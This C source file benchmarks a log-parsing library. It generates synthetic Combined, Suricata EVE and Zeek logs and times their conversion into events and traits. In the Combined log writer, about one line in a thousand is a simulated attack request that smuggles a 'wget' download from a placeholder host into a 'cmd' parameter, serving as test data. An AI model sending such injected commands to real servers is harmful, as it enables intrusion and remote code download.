/* SPDX-License-Identifier: Apache-2.0
 *
 * bench_records.c - how fast logs (Combined, EVE, Zeek) become events, and traits.
 *
 *     build/bench/bench_records [megabytes]
 *
 * The log is made in memory, shaped like a busy shop's: a few thousand clients with a few dozen
 * agents, many paths, some parameters, one line in a thousand an attack of its own. The same seed
 * gives the same log. Beside both figures stands what merely counting its line feeds takes here.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "base/error.h"
#include "formats/record/formats.h"
#include "formats/record/harvest.h"

static uint64_t state = 0x9e3779b97f4a7c15u;

static unsigned pick(unsigned below)
{
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return (unsigned)(state >> 33) % below;
}

/* Small numbers come often, as clients and pages do. */
static unsigned pick_popular(unsigned below)
{
    unsigned a = pick(below) + 1;
    return pick(a);
}

static size_t write_line(char *out, size_t room, unsigned second)
{
    static const char *const agents[] = {
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/126.0.0.0 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
        "Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
        "curl/8.5.0",
    };
    static const char *const folders[] = { "products", "assets/img", "api/v2/items", "blog",
                                           "cart" };
    unsigned client = pick_popular(20000), agent = (client + pick(2)) % 5;
    unsigned day = second / 86400 % 28 + 1, left = second % 86400;
    bool attack = pick(1000) == 0;
    char target[256];
    if (attack) {
        snprintf(target, sizeof(target), "/cgi-bin/%u.php?cmd=wget+http://198.51.100.%u/x",
                 pick(100), pick(255));
    } else if (pick(4) == 0) {
        snprintf(target, sizeof(target), "/%s/%u?page=%u&sort=price", folders[pick(5)],
                 pick_popular(5000), pick(20));
    } else {
        snprintf(target, sizeof(target), "/%s/%u.html", folders[pick(5)], pick_popular(5000));
    }
    int len = snprintf(out, room,
                       "%u.%u.%u.%u - - [%02u/Oct/2025:%02u:%02u:%02u +0200] \"GET %s HTTP/1.1\" "
                       "%u %u \"https://shop.example.org/%s\" \"%s\"\n",
                       11 + client % 180, client / 7 % 250, client % 253, client % 11, day,
                       left / 3600, left / 60 % 60, left % 60, target, attack ? 404u : 200u,
                       pick(60000), folders[pick(5)], agents[agent]);
    return (size_t)len;
}

/* Suricata's EVE: requests, questions and flows in turn, as its writer orders their members. */
static size_t write_eve(char *out, size_t room, unsigned second)
{
    unsigned client = pick_popular(5000), server = pick_popular(3000), kind = pick(3);
    int len = snprintf(
        out, room,
        "{\"timestamp\":\"2025-10-%02uT%02u:%02u:%02u.%06u+0000\",\"flow_id\":%u%09u,\"in_iface\":"
        "\"eth0\",\"event_type\":\"%s\",\"src_ip\":\"10.0.%u.%u\",\"src_port\":%u,\"dest_ip\":"
        "\"%u.%u.%u.%u\",\"dest_port\":%u,\"proto\":\"%s\",\"community_id\":\"1:n9E+%08xR8=\",",
        second / 86400 % 28 + 1, second / 3600 % 24, second / 60 % 60, second % 60, pick(1000000),
        pick(1000000), pick(1000000000),
        kind == 0   ? "http"
        : kind == 1 ? "dns"
                    : "flow",
        client / 250, client % 250, 1024 + pick(60000), 11 + server % 180, server / 7 % 250,
        server % 253, server % 11, kind == 1 ? 53u : 443u, kind == 1 ? "UDP" : "TCP",
        pick(1u << 31));
    size_t at = (size_t)len;
    if (kind == 0) {
        len =
            snprintf(out + at, room - at,
                     "\"tx_id\":0,\"http\":{\"hostname\":\"www%u.example.org\",\"url\":\"\\/news\\/"
                     "%u.html?page=%u\",\"http_user_agent\":\"Mozilla\\/5.0 (X11; Linux x86_64; "
                     "rv:127.0) Gecko\\/20100101 Firefox\\/127.0\",\"http_content_type\":\"text\\/"
                     "html\",\"http_method\":\"GET\",\"protocol\":\"HTTP\\/1.1\",\"status\":200,"
                     "\"length\":%u}}\n",
                     server, pick_popular(5000), pick(20), pick(60000));
    } else if (kind == 1) {
        len = snprintf(
            out + at, room - at,
            "\"dns\":{\"version\":2,\"type\":\"answer\",\"id\":%u,\"flags\":\"8180\",\"qr\":"
            "true,\"rd\":true,\"ra\":true,\"rrname\":\"www%u.example.org\",\"rrtype\":\"A\","
            "\"rcode\":\"NOERROR\",\"answers\":[{\"rrname\":\"www%u.example.org\",\"rrtype\":"
            "\"A\",\"ttl\":300,\"rdata\":\"198.51.100.%u\"}]}}\n",
            pick(65536), server, server, server % 250);
    } else {
        len = snprintf(
            out + at, room - at,
            "\"app_proto\":\"tls\",\"flow\":{\"pkts_toserver\":%u,\"pkts_toclient\":%u,"
            "\"bytes_toserver\":%u,\"bytes_toclient\":%u,\"start\":\"2025-10-10T10:00:00."
            "000000+0000\",\"end\":\"2025-10-10T10:00:09.000000+0000\",\"age\":9,\"state\":"
            "\"closed\",\"reason\":\"timeout\",\"alerted\":false},\"tcp\":{\"tcp_flags\":"
            "\"1b\",\"syn\":true,\"fin\":true,\"psh\":true,\"ack\":true,\"state\":\"closed\"}}"
            "\n",
            pick(90), pick(90), pick(9000), pick(90000));
    }
    return at + (size_t)len;
}

/* Zeek's connections, tab-separated; the header is the first line's. */
static size_t write_zeek(char *out, size_t room, unsigned second)
{
    size_t at = 0;
    if (second == 0) {
        at = (size_t)snprintf(
            out, room,
            "#separator "
            "\\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tconn\n"
            "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_"
            "p\tproto\tservice\tduration\t"
            "orig_bytes\tresp_bytes\tconn_state\tmissed_bytes\thistory\torig_pkts\torig_ip_bytes\t"
            "resp_pkts\tresp_ip_bytes\n");
    }
    unsigned client = pick_popular(5000), server = pick_popular(3000);
    return at +
           (size_t)snprintf(out + at, room - at,
                            "%u.%06u\tC%08x%06x\t10.0.%u.%u\t%u\t%u.%u.%u.%u\t443\ttcp\tssl\t%u."
                            "%06u\t%u\t%u\tSF\t0\tShADadFf\t%u\t%u\t%u\t%u\n",
                            1700000000 + second, pick(1000000), pick(1u << 31), pick(1u << 24),
                            client / 250, client % 250, 1024 + pick(60000), 11 + server % 180,
                            server / 7 % 250, server % 253, server % 11, pick(100), pick(1000000),
                            pick(9000), pick(90000), pick(90), pick(9900), pick(90), pick(99000));
}

typedef size_t line_writer(char *out, size_t room, unsigned second);

static hm_bytes make_log(size_t size, line_writer *write)
{
    char *log = malloc(size + 2048);
    size_t len = 0;
    for (unsigned line = 0; log != NULL && len < size; line++) {
        len += write(log + len, 2048, line / 40);
    }
    return (hm_bytes){ (uint8_t *)log, len };
}

typedef struct counting_sink {
    hmi_event_sink sink; /* first */
    uint64_t events, fields;
} counting_sink;

static int count_event(hmi_event_sink *sink, const hmi_event *event,
                       __attribute__((unused)) hm_err *err)
{
    counting_sink *s = (counting_sink *)(void *)sink;
    s->events++;
    s->fields += event->field_count;
    return HM_OK;
}

static uint64_t trait_count;

static int count_trait(__attribute__((unused)) hmi_sink *sink,
                       __attribute__((unused)) const hmi_trait *trait,
                       __attribute__((unused)) hm_err *err)
{
    trait_count++;
    return HM_OK;
}

static int hear_note(__attribute__((unused)) hmi_sink *sink,
                     __attribute__((unused)) const hmi_note *note,
                     __attribute__((unused)) hm_err *err)
{
    return HM_OK;
}

static int hear_fact(__attribute__((unused)) hmi_sink *sink, __attribute__((unused)) hm_text name,
                     __attribute__((unused)) hm_text value, __attribute__((unused)) hm_err *err)
{
    return HM_OK;
}

/* Processor time: the figures must not depend on who else is busy here. */
static int64_t cpu_us(void)
{
    struct timespec now;
    (void)clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &now);
    return (int64_t)now.tv_sec * 1000000 + now.tv_nsec / 1000;
}

static double rate(size_t bytes, int64_t begin_us)
{
    return (double)bytes / (double)(cpu_us() - begin_us);
}

static int to_events(hm_bytes log, hm_err *err)
{
    hmi_arena arena;
    counting_sink sink = { .sink = { count_event } };
    hmi_lines_sums sums;
    hmi_arena_init(&arena, 64 << 20);
    int64_t begin = cpu_us();
    int code = hmi_lines_read(&arena, HMI_TIME_NONE, log, &sink.sink, NULL, NULL, &sums, err);
    printf("to events: %.0f MB/s (%llu events, %llu fields)\n", rate(log.len, begin),
           (unsigned long long)sink.events, (unsigned long long)sink.fields);
    hmi_arena_fini(&arena);
    return code;
}

static int to_traits(hm_bytes log, hm_err *err)
{
    static const hmi_sink_ops ops = { .trait = count_trait, .note = hear_note, .fact = hear_fact };
    hmi_sink sink = { &ops };
    hmi_arena arena;
    hmi_lines_sums sums;
    hmi_harvest *harvest = NULL;
    hmi_arena_init(&arena, 64 << 20);
    hmi_reading reading = { .arena = &arena, .sink = &sink, .context_us = HMI_TIME_NONE };
    int64_t begin = cpu_us();
    int code = hmi_harvest_new(&reading, log, &harvest, err);
    if (code == HM_OK) {
        code = hmi_lines_read(&arena, HMI_TIME_NONE, log, hmi_harvest_sink(harvest), NULL, NULL,
                              &sums, err);
    }
    if (code == HM_OK) {
        code = hmi_harvest_end(harvest, err);
    }
    printf("to traits: %.0f MB/s (%llu traits, arena %zu KiB)\n", rate(log.len, begin),
           (unsigned long long)trait_count, arena.used / 1024);
    hmi_harvest_free(harvest);
    hmi_arena_fini(&arena);
    return code;
}

/* One kind of log: made, its line feeds counted, read. */
static int measure(const char *name, line_writer *write, size_t size, hm_err *err)
{
    hm_bytes log = make_log(size, write);
    if (log.ptr == NULL) {
        return hmi_fail(err, HM_E_MEMORY, HM_OFFSET_NONE, "no memory for the log");
    }
    int64_t begin = cpu_us();
    uint64_t lines = 0;
    for (const uint8_t *p = log.ptr, *end = p + log.len;
         (p = memchr(p, '\n', (size_t)(end - p))) != NULL; p++) {
        lines++;
    }
    printf("%s: line feeds: %.0f MB/s (%llu lines of %zu bytes)\n", name, rate(log.len, begin),
           (unsigned long long)lines, (size_t)(log.len / lines));
    int code = to_events(log, err);
    code = code == HM_OK ? to_traits(log, err) : code;
    free((void *)(uintptr_t)log.ptr);
    return code;
}

int main(int argc, char **argv)
{
    hm_err err = { 0 };
    size_t size = (argc > 1 ? (size_t)strtoul(argv[1], NULL, 10) : 100) << 20;
    int code = measure("Combined", write_line, size, &err);
    code = code == HM_OK ? measure("EVE", write_eve, size, &err) : code;
    code = code == HM_OK ? measure("Zeek", write_zeek, size, &err) : code;
    if (code < 0) {
        fprintf(stderr, "%s\n", err.text);
    }
    return code < 0 ? 1 : 0;
}
